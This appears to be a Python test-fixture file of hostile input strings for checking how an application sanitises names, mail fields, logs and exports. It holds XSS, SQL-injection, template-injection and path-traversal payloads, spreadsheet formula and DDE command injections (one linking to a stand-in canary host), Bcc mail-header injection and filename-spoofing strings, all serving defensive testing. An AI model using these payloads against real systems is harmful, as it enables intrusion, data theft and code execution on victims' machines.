"""Words that try to be something else than words, and what every door makes of them.

The rule is said here once: controls, NULs and the switches that turn a line round are taken out, line ends become
plain ones, and what is one line (a name, a subject) has single spaces and no line end. All else stays as it was typed.
"""

from dataclasses import dataclass

CANARY = "canary.example"  # whoever asks this host for anything has run a word


@dataclass(frozen=True)
class Word:
    """`line` is what a one-line detail keeps of it, `text` what a note keeps; both are `typed` unless said."""

    name: str
    typed: str
    line: str = ""
    text: str = ""

    @property
    def as_line(self) -> str:
        return self.line or self.typed

    @property
    def as_text(self) -> str:
        return self.text or self.typed

    @property
    def in_mail(self) -> str:
        """Mail is filled in between markers of our own, which no value may bear."""
        return self.as_line.replace("\ue002", "").replace("\ue003", "")

    @property
    def has_null(self) -> bool:
        return "\0" in self.typed

    def __str__(self) -> str:
        return self.name


MARKUP = (
    Word("a tag", '<x-trap></x-trap><img src=//canary.example/i onerror=__trap("img")> q01q'),
    Word("a script", '</script></title></textarea><script>__trap("script")</script> q02q'),
    Word("an attribute", '" autofocus onfocus=__trap("attribute") x-trap="1 q03q'),
    Word("an attribute in single quotes", "' onmouseover='__trap(1)' x-trap='1 q04q"),
    Word("a comment's end", '--><svg/onload=__trap("svg")>]]> q05q'),
    Word("entities", "&lt;b&gt;bold&lt;/b&gt; &amp; &#x3C;script&#x3E; q06q"),
    Word("a script's address", 'javascript:__trap("address")//q07q'),
    Word("Markdown", "[click](https://canary.example) ![i](//canary.example/i) **bold** `c` q08q"),
)
CODE = (
    Word("SQL", "Robert'); DROP TABLE leads_lead;-- q11q"),
    Word("escapes", "C:\\new\\table \\u003cx-trap\\u003e \\' \\\" \\0 q12q"),
    Word("templates", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> [[7*7]] {% raw %} q13q"),
    Word("placeholders", "{{ name }} {{button}} {actor} %(name)s %s {0} q14q"),
    Word("markers of our own", "\ue002name\ue003 q15q"),
    Word("a path", "../../../../etc/passwd q16q"),
)
FORMULAS = (
    Word("a formula", '=HYPERLINK("https://canary.example/"&A1) q21q'),
    Word("a formula that begins with +", "+cmd|' /C calc'!A0 q22q"),
    Word("a formula that begins with -", "-2+3+cmd|' /C calc'!A0 q23q"),
    Word("a formula that begins with @", "@SUM(1+1)*cmd|' /C calc'!A0 q24q"),
    Word("a formula that was neutralised before", "'=1+1 q25q"),
    Word("a formula in wide letters", "\uff1d1+1 q26q"),
    Word("a number with a minus", "-5"),
    Word("a phone", "+1 555 010 0100"),
    Word("zeros in front", "00123"),
    Word("a number too long", "12345678901234567890"),
)
LINES = (
    Word(
        "mail headers",
        "Maya\r\nBcc: thief@canary.example\r\n\r\n<b>hi</b> q31q",
        line="Maya Bcc: thief@canary.example <b>hi</b> q31q",
        text="Maya\nBcc: thief@canary.example\n\n<b>hi</b> q31q",
    ),
    Word("an encoded header", "=?utf-8?q?=0d=0aBcc:_thief@canary.example?= q32q"),
    Word(
        "a log line",
        "x\n2026-11-22 10:00:00 ERROR root FORGED \x1b[31mred q33q",
        line="x 2026-11-22 10:00:00 ERROR root FORGED [31mred q33q",
        text="x\n2026-11-22 10:00:00 ERROR root FORGED [31mred q33q",
    ),
    Word(
        "other line ends",
        "one\u2028two\u2029three\x85four q34q",
        line="one two three four q34q",
        text="one\ntwo\nthree\nfour q34q",
    ),
    Word("odd spaces", "a\u00a0b\u3000c  d q35q", line="a b c d q35q"),
    Word("controls", "bell\x07 back\x08 delete\x7f q36q", line="bell back delete q36q", text="bell back delete q36q"),
    Word("a NUL", "nu\0ll q37q", line="null q37q", text="null q37q"),
)
SCRIPTS = (
    Word("a line turned round", "invoice\u202egpj.exe q41q", line="invoicegpj.exe q41q", text="invoicegpj.exe q41q"),
    Word("right to left", "\u0645\u0627\u064a\u0627 \u200f(\u0623\u0648) \u05e9\u05dc\u05d5\u05dd q42q"),
    Word("combining marks", "Z\u0338\u0351a\u0337l\u0336g\u0335o\u0334 x\u0301\u0302 e\u0301 q43q"),
    Word("emoji", "\U0001f469\U0001f3fd\u200d\U0001f680 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f1e9\U0001f1ea q44q"),
    Word("other planes", "\U0002070e \U00010348 \u4e2d\u6587 \u0928\u092e\u0938\u094d\u0924\u0947 q45q"),
)
EMPTY_LOOKING = tuple(
    Word(f"the name {name}", name)
    for name in ("null", "None", "undefined", "True", "false", "NaN", "-0", "1e999", "0x1F", "N/A")
)
WORDS = (*MARKUP, *CODE, *FORMULAS, *LINES, *SCRIPTS, *EMPTY_LOOKING)
LONG = Word("ten thousand letters", "W" * 10_000)
TOO_LONG = Word("a letter more than any text holds", "W" * 20_001)
ADDRESSES = (  # whole addresses that look like something else
    "o'brien+=1@hostile.example",
    "+cmd@hostile.example",
    "=cmd|'@hostile.example",
    "-2+3@hostile.example",
    "{{7*7}}@hostile.example",
    "null@hostile.example",
    "\u0645\u0627\u064a\u0627@hostile.example",
)
NO_ADDRESSES = (
    '"><x-trap>@hostile.example',
    "maya@hostile.example\r\nBcc: thief@canary.example",
    "maya@hostile.example\nthief@canary.example",
    "maya@hostile.example, thief@canary.example",
    "maya@hostile.example\0@canary.example",
    '"maya\r\nBcc: x"@hostile.example',
    "maya@[127.0.0.1]",
    "W" * 10_000 + "@hostile.example",
)
